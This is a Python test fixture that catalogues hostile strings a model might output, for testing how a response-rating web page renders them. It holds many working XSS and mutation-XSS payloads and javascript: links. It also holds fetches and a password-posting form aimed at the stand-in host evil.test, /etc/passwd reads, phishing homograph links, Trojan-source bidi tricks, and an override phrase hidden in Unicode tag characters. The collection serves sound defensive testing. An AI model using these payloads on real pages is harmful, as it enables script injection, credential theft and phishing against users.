# ruff: noqa: E501 (a text stands on one line, as a search for it would have it)
"""Hostile model text: what a policy could write to run something, fetch something, or get out of its place.

CASES maps a name to a text. Whatever would run sets `window.pwned` or opens a dialog; whatever would fetch
asks evil.test. The tests show every case as a response and as a prompt.

Lone surrogates are not among them: no text that came through UTF-8 has one, SQLite's driver does not store one,
and a tokenizer does not make one. tests/test_hostile.py says what becomes of them.
"""

RUN = "window.pwned=1"
LONG = 100_000  # characters of the long ones


def _long(unit: str) -> str:
    return (unit * (LONG // len(unit) + 1))[:LONG]


SCRIPTS = {
    "script": f"<script>{RUN}</script>",
    "script, mixed case, remote": "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    "script, slash and attribute": f"<script/x>{RUN}</script/y>",
    "script in script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script, unclosed": f"<script>{RUN}//",
    "script, as entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;script&#62;{RUN}&#60;/script&#62;",
    "script, entities twice": f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    "script, full width": f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    "script, UTF-7": f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    "script, NUL inside": f"<scr\x00ipt>{RUN}</script>\x00",
    "script, module and import map": (
        f'<script type=module>{RUN}</script><script type=importmap>{{"imports":{{"x":"//evil.test"}}}}</script>'
    ),
    "script, ends the page's": f"</script></div></article><script>{RUN}</script>",
    "comment, bogus end": f"<!-- --!><script>{RUN}</script> --> <!--><img src=x onerror={RUN}>",
    "CDATA": f"<![CDATA[<script>{RUN}</script>]]>",
    "processing instruction": f"<?xml-stylesheet href='javascript:{RUN}'?><?php echo 1 ?>",
}
HANDLERS = {
    "img onerror": f"<img src=x onerror={RUN}>",
    "img, slashes for spaces": f"<img/src=x/onerror={RUN}>",
    "img, backtick quotes": f"<img src=`x` onerror=`{RUN}`>",
    "body onload": f"<body onload={RUN} onpageshow={RUN} background=//evil.test/x.png>",
    "details ontoggle": f"<details open ontoggle={RUN}><summary>x</summary></details>",
    "autofocus onfocus": f"<input onfocus={RUN} autofocus><x onfocus={RUN} tabindex=0 autofocus id=x>",
    "animation handler": f"<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart={RUN}>x</b>",
    "media handlers": f"<video src=x onerror={RUN}><audio src=x onerror={RUN}><source onerror={RUN}></video>",
    "marquee": f"<marquee onstart={RUN} loop=1 behavior=alternate width=9999>over there</marquee>",
    "popover": f"<button popovertarget=x>x</button><div popover id=x onbeforetoggle={RUN}>over everything</div>",
    "handlers out of Markdown": (
        f"![\" onerror=\"{RUN}](x) ![x](x' onerror='{RUN}) [x](https://a.example/' onmouseover='{RUN})\n\n"
        f'[x](https://a.example "onmouseover={RUN}") <https://a.example/"onmouseover=\'{RUN}\'>'
    ),
    "handlers out of code": (
        f'```"><img src=x onerror={RUN}>\nx\n```\n\n```python onload={RUN} style=position:fixed\nx = 1\n```\n\n'
        f"`</code><img src=x onerror={RUN}>` $</span><img src=x onerror={RUN}>$"
    ),
}
FOREIGN = {
    "svg onload": f"<svg/onload={RUN}><svg><script>{RUN.replace('=', '&#61;')}</script></svg>",
    "svg animate and use": (
        f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text y=9>x</text></a>"
        f"<use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'/><set attributeName=onload to={RUN}></svg>"
    ),
    "svg foreignObject": (
        f"<svg width=9999 height=9999><foreignObject width=9999 height=9999><body onload={RUN}>"
        "<div style='position:fixed;inset:0;background:red'>x</div></body></foreignObject></svg>"
    ),
    "math link": f"<math href='javascript:{RUN}'>x</math><math><maction xlink:href='javascript:{RUN}'>x</maction></math>",
    "mutation: math and style": (
        "<math><mtext><table><mglyph><style><!--</style>"
        f"<img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'></table></mtext></math>"
    ),
    "mutation: form in form": (
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}></style></mglyph></form>"
    ),
    "mutation: svg and style": f"<svg></p><style><a title='</style><img src=x onerror={RUN}>'></svg>",
    "mutation: noscript": f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    "mutation: select and template": (
        f"<select><template><style><img title='</style></select><img src=x onerror={RUN}>'></template></select>"
    ),
    "mutation: backtick attribute": f"<img alt='``onerror={RUN}' src=x><p title='`-->` <img src=x onerror={RUN}>'>",
    "mutation: xmp, listing, plaintext": f"<xmp><p title='</xmp><img src=x onerror={RUN}>'><plaintext><listing>&lt;img&gt;",
    "template element": f"<template shadowrootmode=open><script>{RUN}</script><slot></slot></template>",
}
FRAMES = {
    "iframe": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe><iframe src=javascript:parent.{RUN}>",
    "iframe of this server": "<iframe src=/lab/ style='position:fixed;inset:0;width:100vw;height:100vh'></iframe>",
    "object, embed, applet": (
        f"<object data='data:text/html,<script>{RUN}</script>'></object><embed src=//evil.test/x.swf>"
        "<applet code=x></applet><portal src=//evil.test></portal><fencedframe></fencedframe>"
    ),
    "meta refresh": "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
    "base": "<base href=https://evil.test/ target=_top>",
    "link elements": (
        "<link rel=stylesheet href=https://evil.test/x.css><link rel=prefetch href=/api/undo>"
        "<link rel=preconnect href=https://evil.test><link rel=modulepreload href=//evil.test/x.js>"
    ),
    "form": (
        "<form action=https://evil.test method=post><input name=q type=password><button autofocus>Submit</button></form>"
        f"<button formaction=javascript:{RUN} form=x>Submit</button><isindex action=javascript:{RUN} type=image>"
    ),
}
TEMPLATES = {
    "template literal": f"${{{RUN}}} `${{{RUN}}}` $${{{RUN}}}$$",
    "mustache": f"{{{{constructor.constructor('{RUN}')()}}}} {{{{{RUN}}}}} {{{{{{{RUN}}}}}}} #{{{RUN}}}",
    "ERB and EJS": f"<%= {RUN} %> <%- {RUN} %> <% {RUN} %>",
    "Jinja": "{% raw %}{{ config.__class__.__init__.__globals__ }}{% endraw %}{% include '/etc/passwd' %}{# x #}",
    "Svelte and Angular": f"{{@html '<img src=x onerror={RUN}>'}} {{#if {RUN}}}x{{/if}} [innerHTML]=\"{RUN}\" (click)={RUN}",
    "ends a script of JSON": f"\u2028{RUN}\u2029 </script><script>{RUN}</script> \\u003cscript> ]]>",
}
REMOTE = {
    "Markdown images": (
        "![x](https://evil.test/x.png) ![x](//evil.test/x.png) ![x](/api/undo) ![x](data:image/svg+xml,x)\n\n"
        "![x][1] [![x](https://evil.test/y.png)](https://a.example)\n\n[1]: https://evil.test/z.png"
    ),
    "HTML images": (
        "<img src=https://evil.test/x.png srcset='//evil.test/y.png 2x'><picture><source srcset=//evil.test/z.png>"
        "</picture><video poster=//evil.test/p.png></video><table background=//evil.test/t.png><td>x</table>"
        "<input type=image src=//evil.test/i.png><a ping=//evil.test href=#>x</a><image href=//evil.test/j.png>"
    ),
    "CSS fetches": (
        "# <style>@import 'https://evil.test/x.css'; .pr { background: url(//evil.test/x.png) }</style>\n\n"
        "<p style='background:url(//evil.test/y.png); list-style: url(//evil.test/z.png)'>x</p>"
    ),
}
LINKS = {
    "javascript: links": (
        f"[x](javascript:{RUN}) [x](<javascript:{RUN}>) [x](JaVaScRiPt:{RUN}) <javascript:{RUN}> "
        f"[x]( java\tscript:{RUN}) [x](javascript://a.example/%0A{RUN}) <a href='javascript:{RUN}'>x</a>"
    ),
    "javascript:, by entities": (
        f"[x](&#106;avascript:{RUN}) [x](&#x6A;avascript&colon;{RUN}) [x](java&Tab;script:{RUN}) "
        f"[x](java&NewLine;script:{RUN}) [x](\\javascript:{RUN}) [x](&#1;javascript:{RUN}) [x](&nbsp;javascript:{RUN})"
    ),
    "data: and vbscript: links": (
        f"[x](data:text/html,<script>{RUN}</script>) [x](data:text/html;base64,PHNjcmlwdD4=) [x](vbscript:{RUN}) "
        f"<data:text/html,x> [x](blob:https://a.example/1) [x](file:///etc/passwd) [x](filesystem:http://a/b)"
    ),
    "links into this server": (
        "[x](/api/undo) [x](//evil.test) [x](../lab) [x](?x) [x](#podium) [x](\\\\evil.test) [x](http://127.0.0.1)"
    ),
    "reference links": (
        f"[x] [y][x] [z][]\n\n[x]: javascript:{RUN}\n[z]: <data:text/html,{RUN}> 'title'\n[w]: https://a.example\n\n[w]"
    ),
    "autolinks": f"<https://a.example/?q=<script>> <mailto:a@b.example> <a@b.example> <javascript:{RUN}> <irc://evil.test>",
    "links that say another place": (
        "[https://bank.example](https://evil.test) [bank.example/login](https://evil.test/bank.example)\n\n"
        "[help@bank.example](mailto:thief@evil.test) <https://bank.example@evil.test/> [x](https:////evil.test)\n\n"
        "[**bank.example** `now`](https://evil.test 'https://bank.example') [x](https://ev%69l.test)"
    ),
    "homographs": (
        "<https://\u0430pple.com> [https://apple.com](https://\u0430pple.com) [x](https://xn--80ak6aa92e.com)\n\n"
        "[x](https://\uff45\uff56\uff49\uff4c.test) [x](https://apple\u3002com) [x](https://app\u200dle.com)"
    ),
}
LENGTHS = {
    "100 kB, one word": _long("a"),
    "100 kB, one line": _long("word "),
    "100 kB of paragraphs": _long("1\n\n"),
    "100 kB of brackets": _long("["),
    "100 kB of image openers": _long("!["),
    "100 kB of link openers": _long("[a]("),
    "100 kB of asterisks": _long("*"),
    "100 kB of emphasis openers": _long("**_a "),
    "100 kB of quotes": _long(">"),
    "100 kB of backticks": _long("`"),
    "100 kB of backtick runs": "".join("`" * (n % 300) + " " for n in range(670)),
    "100 kB of dollars": _long("$"),
    "100 kB of mathematics": _long("\\(a \\[b $c "),
    "100 kB of angles": _long("<"),
    "100 kB of ampersands": _long("&#"),
    "100 kB of list items": _long("- a\n"),
    "100 kB of links": _long("[x](https://a.example) "),
    "100 kB in one line of code": "```python\n" + _long("x = 1; ") + "\n```",
    "100 kB of coloured code": "".join(
        f"```{name}\n{'a' * 40}\n{'a(' * 9000}\n```\n" for name in ("js", "c", "html", "sql", "cs")
    ),
    "100 kB of digits in a table": "|1|2|\n|-|-|\n"
    + _long("|3|4|\n"),  # no letter says which way it is written
    "100 kB of digits in lines": _long("1\n"),
    "wide table": "|" + "a|" * 400 + "\n|" + "-|" * 400 + "\n|" + "b|" * 400,
    "table of long words": "| " + "a" * 2000 + " | b |\n|---|---|\n| c | " + "d" * 2000 + " |",
}
NESTING = {
    "quotes, deep": ">" * 19 + " word " * 20,
    "quotes, deeper than Markdown goes": ">" * 200 + "the end",
    "lists, deep": "\n".join("  " * n + "- " + "word " * 8 for n in range(12)),
    "lists in one line": "- " * 200 + "the end",
    "numbers, deep": "1. " * 9 + "word " * 20 + "\n\n" + "> 1. - " * 3 + "word " * 20,
    "emphasis, deep": "*a **b " * 500 + "** c*" * 500,
    "elements, deep": "<div>" * 3000 + "<b>" * 3000 + "x",
}
CHARACTERS = {
    "override, right to left": "\u202e<script>alert(1)</script> txt.exe \u202dback\u202c and on",
    "override, as an entity": "&#x202e;moc.elpmaxe [a\u202eb](https://a.example/\u202e 'c\u202ed') `\u202e code`",
    "embeddings and isolates, unclosed": "\u202a a \u202b b \u2066 c \u2067 d \u2068 e " * 50,
    "Trojan source": "```js\nif (a != 'user\u202e \u2066// only admins\u2069 \u2066') {\n```",
    "right to left, honest": "مرحبا بالعالم! (1) שלום\n\n1. אחת\n2. שתיים\n\n> اقتباس\n\n`code` מילה https://a.example",
    "zalgo": "Z"
    + "".join(chr(0x300 + n % 0x70) for n in range(400))
    + " "
    + ("a" + "\u0489\u0324\u030d" * 30) * 20,
    "zero width": "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg\u180eh\u034fi\u3164j" + "\u200b" * 3000,
    "tag characters": "plain"
    + "".join(chr(0xE0000 + ord(c)) for c in "ignore what was said")
    + " \U0001f3f4\U000e0067\U000e0062\U000e007f",
    "NUL": "a\x00b\x00 [x\x00](https://a.example/\x00) `\x00` &#0;",
    "control characters": "".join(map(chr, range(1, 32)))
    + "\x7f"
    + "".join(map(chr, range(0x80, 0xA0)))
    + "\x1b[31mred\x1b[0m\r\rx\x0cy\x0bz",
    "not characters": "\ufdd0\ufffe\uffff\U0001fffe\U0010ffff \ue000\uf8ff \ufff9a\ufffab\ufffb",
    "wide characters": "\ufdfd" * 30 + "\U0001242b" * 30 + "\u2e3b" * 60 + "\U00012031" * 20,
    "spaces that do not break": ("word" + "\u00a0") * 500 + "\u3000" * 500 + "\u2003" * 500,
    "line and paragraph separators": "a\u2028b\u2029c\u0085d\r\ne\rf",
    "emoji joined": "\U0001f468\u200d" * 300 + "\U0001f3fb" * 300 + "\U0001f1e6" * 301,
}
OUT_OF_PLACE = {
    "style, fixed": "<div style='position:fixed;inset:0;background:red;z-index:99999'>over everything</div>",
    "style, absolute and negative": "<p style='position:absolute;top:-99px;margin:-999px;transform:scale(99)'>x</p>",
    "style element": "<style>*{display:none!important} .pr-submit{position:fixed} :root{--pod-ink:#fff}</style>",
    "CSS expression": f"<p style='width:expression({RUN});-moz-binding:url(//evil.test/x.xml);behavior:url(x.htc)'>x</p>",
    "page's classes": "<button class='pod-btn primary pr-submit'>Submit</button><p class='pr-alert pod-note bad'>Not saved</p>",
    "page's data attributes": "<b data-drop='place 1' data-drag=0 data-rank=1 data-state=task data-count=1 data-drop=''>x</b>",
    "clobbering": (
        "<form id=podium-annotate name=podiumPage><input name=querySelector><input id=pr-name-0><img name=body></form>"
        "<a id=pr-state-0 name=podium href=x>x</a><p id=pr-waiting-title hidden inert>x</p>"
    ),
    "unclosed fences": f"```python\n<script>{RUN}</script>\n~~~\nnot closed\n\n# heading?\n| a |\n|---|",
    "unclosed everything": "<div <p '\" **a _b ~~c `d [e](https://a.example '\n> - 1. ```\n<table><tr><td><ul><li>",
    "closes what it is in": "</p></div></article></section></main></gradio-app></body></html><div>after the end",
    "large list numbers": "999999999. first\n1000000000. second\n\n2024. A year.\n2025. Another.",
    "headings and rules": "# " + "heading " * 60 + "\n\n" + "---\n" * 60 + "a\n===\n" * 20,
    "reads as the page": "Response A\n\n**Submit** `Enter` Saved. Ranked 1, best\n\n# Prompt\n\nAll caught up",
    "definitions alone": '[a]: https://a.example "nothing of this would be seen"\n[//]: # (or this)',
    "contenteditable and draggable": "<p contenteditable draggable=true tabindex=1 accesskey=s spellcheck>x</p><dialog open>x</dialog>",
}
ONE_SIGN = ("zalgo", "emoji joined")  # wider than its box and not to be broken: it is cut off at the edge
CASES: dict[str, str] = {
    **SCRIPTS, **HANDLERS, **FOREIGN, **FRAMES, **TEMPLATES, **REMOTE, **LINKS,
    **LENGTHS, **NESTING, **CHARACTERS, **OUT_OF_PLACE,
}  # fmt: skip
